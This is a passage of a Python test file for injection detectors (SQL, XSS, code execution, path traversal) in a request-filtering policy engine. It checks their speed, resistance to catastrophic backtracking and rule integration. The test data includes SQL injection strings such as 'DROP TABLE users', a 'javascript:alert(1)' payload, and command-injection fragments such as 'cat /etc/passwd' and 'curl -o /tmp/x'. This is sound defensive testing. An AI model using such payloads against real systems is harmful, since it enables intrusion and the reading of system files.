    before a column probe; a SELECT of bare words after ``UNION (`` is English only where no quote, digit or other
    SQL comes before UNION."""
    assert sqli(text)
    assert not sqli("Join the union (select a plan from the list)")
    assert not sqli("Union (select members only from the list)")


def test_sqli_reads_a_long_line_of_prose_within_its_budget() -> None:
    """A 17.5 KB one-line paragraph (rich-text HTML) with eight ordinary sentences 2,100 characters apart ("Select a
    workspace to get started.") spent the budget, each keyword's window tokenised and charged again in full, and
    counted as SQL. A window charges only what the line's window before it had not tokenised, and past the budget
    only keywords shaped like a statement count."""
    para = "The new dashboard is faster and easier to read, and our support team answered most tickets in an hour. "
    sentences = ["Select a workspace to get started.", "We will update the pricing page next month.",
                 "You can create a new board in two clicks.", "Please delete old drafts you no longer need."]
    for count in (8, 12, 30):
        text = " ".join(f"Part {i}. " + para * 21 + sentences[i % 4] for i in range(count))
        assert "\n" not in text and not sqli(text), len(text)
        assert sqli(text + " x'; DROP TABLE users; --")  # a statement after it still counts


def test_sqli_past_its_bounds_skips_a_keyword_before_reading_its_candidate() -> None:
    """Past the first MAX_SQL_STARTS candidates, every keyword had 2,000 characters sliced and hashed before the
    shape test skipped it, uncharged, in each reading (2.1 s for 1 MB of ``update wN`` with three extra readings);
    the shape test comes first, so only the candidates parsed are remembered."""
    text = "%41 \\u00e9 \u017f " + "".join(f"update w{i} " for i in range(20_000))
    budget = _SqlBudget(len(text))
    assert not any(_sqli(reading, budget) for reading in _readings(text))
    assert len(budget.seen) <= MAX_SQL_STARTS


def test_sqli_work_is_bounded_by_the_texts_length_all_readings_together(monkeypatch) -> None:
    """A 2,000-character value with 63 keywords on one line had the line tokenised again from each keyword, for each
    of its three readings (plain, URL-decoded, folded), and only the parser's reads were charged: 380,000 characters
    tokenised, 1.5 s per request. Each line is tokenised once from its first keyword, and all that sqlglot tokenises
    and parses is charged to one budget per call."""
    tokenised: list[int] = []
    parsed: list[int] = []
    tokenize, parse = Tokenizer.tokenize, Parser.parse

    def counted_tokenize(self, sql):
        tokenised.append(len(sql))
        return tokenize(self, sql)

    def counted_parse(self, raw_tokens, sql=None):
        parsed.append(len(raw_tokens))
        return parse(self, raw_tokens, sql)

    monkeypatch.setattr(Tokenizer, "tokenize", counted_tokenize)
    monkeypatch.setattr(Parser, "parse", counted_parse)
    texts = [
        ("select ) " * 63 + "(1)," * 600)[:1990] + "%41\u017f",  # three readings of 63 keywords on one line
        ("select (1)," * 200)[:2000],
        ("select " + "(1)," * 20) * 100,  # statements that parse far, one after another
        "".join(f"select {n}," + ",".join(["(1)"] * 600) + "\n" for n in range(12)),  # lines that parse slowly
        "drop it " * 2000,
        "x'; SELECT password\n" + "a,\n" * 3000,  # a statement left open, and lines that keep it open
        "".join(f'update w{n} | <a o" ' for n in range(2000)),  # each keyword inside the quotes of the window before
    ]
    for text in texts:
        tokenised.clear()
        parsed.clear()
        sqli(text)
        budget = min(MAX_SQL_PARSE_CHARS, SQL_WORK_BASE + SQL_WORK_PER_CHAR * len(text))
        # the budget, plus the last parse that spent it and each parse's first tokens (up to 64 parses of 48)
        assert sum(tokenised) + sum(parsed) <= budget + 2 * MAX_SQL_STATEMENT + MAX_SQL_STARTS * 48, text[:40]


def test_xss_reads_every_tag_in_one_scan() -> None:
    # many unclosed tags and quotes: one scan finds every tag (a pattern that retried each "<" took 0.3 s on these)
    for text in ("<a" * 4000, "<a\n" * 3000, '<a"' * 3000, "<a " + "style=" * 2000):
        assert not xss(text)
    assert xss("<a" * 4000 + " onload=x>")


@pytest.mark.parametrize("function", [sqli, xss, code_exec, path_traversal])
@pytest.mark.parametrize("value", [42, None, ["DROP TABLE users"], b"<script>"])
def test_a_non_string_raises_type_error(function, value) -> None:
    with pytest.raises(TypeError, match="takes a string"):
        function(value)


POLICY = """
policies:
  - id: p
    version: 1
    match: {http: {paths: ["/**"]}}
    state: {text: {from: body_text}, query: body:/query}
    questions: {injection: {catalog: guard.prompt_injection}}
    rules:
      - {id: sql, when: 'sqli(STATE)', action: block}
      - {id: script, when: 'xss(STATE)', action: block}
    default: allow
    on_error: {mode: closed, status: 503}
"""


def test_rules_call_them_on_the_state() -> None:
    policy = load_text(POLICY.replace("STATE", "state.text"))[0]
    for body, rule in [({"q": "10; DROP TABLE users --"}, "sql"), ({"m": "javascript:alert(1)"}, "script"),
                       ({"m": "I'm sure it's 1 or 2"}, "default")]:  # fmt: skip
        subject = HttpSubject(method="POST", path="/x", body=body, body_text="\n".join(body.values()))
        state = policy.render_state(subject)
        assert apply_rules(policy.id, policy.rules, policy.default, {}, state=state).rule == rule
    with pytest.raises(RuleError, match="sqli"):
        apply_rules(policy.id, policy.rules, policy.default, {}, state={"text": 7})


@pytest.mark.anyio
async def test_a_non_string_field_is_the_fail_mode_never_a_crash() -> None:
    guard = Guard(load_text(POLICY.replace("STATE", "state.query")), backends=ScriptedBackend())
    try:
        verdict = await guard.aevaluate(HttpSubject(method="POST", path="/x", body={"query": 10}))
        assert verdict.action == "block" and verdict.rule == "on_error" and verdict.status == 503
        ok = await guard.aevaluate(HttpSubject(method="POST", path="/x", body={"query": "a plain question"}))
        assert ok.action == "allow"
    finally:
        await guard.aclose()


def test_a_statement_nested_past_the_parsers_depth_is_sql_not_an_error() -> None:
    """``select ((((...`` raised RecursionError out of the rule, so the policy's fail mode decided (allow under
    ``on_error: open``) instead of the rules; nesting that deep is code."""
    for depth in (100, 5000):
        assert sqli("select " + "(" * depth)


def test_the_start_tag_pattern_finds_what_one_alternation_per_character_finds() -> None:
    """``_TAG_RE`` is written as an unrolled loop for speed; on random markup-like text it finds exactly the tags the
    plain form (a quoted value or one unquoted character, repeated) finds."""
    import random
    import re

    from guard.policy.payloads import _TAG_RE

    plain = re.compile(r"<[a-z](?:\"[^\"]*\"|'[^']*'|[^\"'>])*", re.IGNORECASE)
    rng = random.Random(7)
    for _ in range(3000):
        text = "".join(rng.choice("<aB>\"' =x\n") for _ in range(rng.randint(1, 40)))
        assert [m.span() for m in _TAG_RE.finditer(text)] == [m.span() for m in plain.finditer(text)], text


#: (before, piece, after): a piece of an attack's shape repeated, then a tail that makes the line fail, where a
#: pattern with a repeated group whose parts can read the same text in two ways tries 2^k ways to split the pieces.
PATHOLOGICAL_SHAPES = [
    ("x\ncat /a", "${IFS}/a", " x"), ("x\nls -a", "$IFS-a", " x"), ("x; cat /etc/passwd", "${IFS}/a", " x"),
    ("x && curl -o /tmp/x", "<a", " x"), ("x\nping -c 1", " -a", " x"), ("x\n8.8.8.8", " -c 1", "\nid x"),
    ("x | sudo", " -u root", " x"), ("x; id", " -a", " x"), ("1 union", " /**/", " x"), ("select", " (1),", " x"),
    ("<a", " b='c'", ' "'), ("[x](", " <", "javascript x"), ("x\n", "- ", "[x] x"), ("../", "./", "x"), ("x=", "..../", "x"), ("${", "${", "x"),
]  # fmt: skip


def test_the_detectors_take_linear_time_on_repeated_pieces_of_attack_shapes() -> None:
    """Each detector reads each shape with its piece repeated 40 times: linear patterns take milliseconds, one that
    backtracks over every way of splitting the pieces takes days; run in a child process killed after 60 s (a bound
    that a loaded machine cannot reach by accident, and that a regular expression, which holds the GIL and ignores
    signals, cannot overrun)."""
    code = (
        "import sys\nfrom guard.policy.payloads import code_exec, path_traversal, sqli, xss\n"
        f"for before, piece, after in {PATHOLOGICAL_SHAPES!r}:\n"
        "    text = before + piece * 40 + after\n"
        "    for check in (sqli, xss, code_exec, path_traversal):\n"
        "        check(text)\n"
    )
    runs_in_time(code, "the detectors on the repeated shapes")
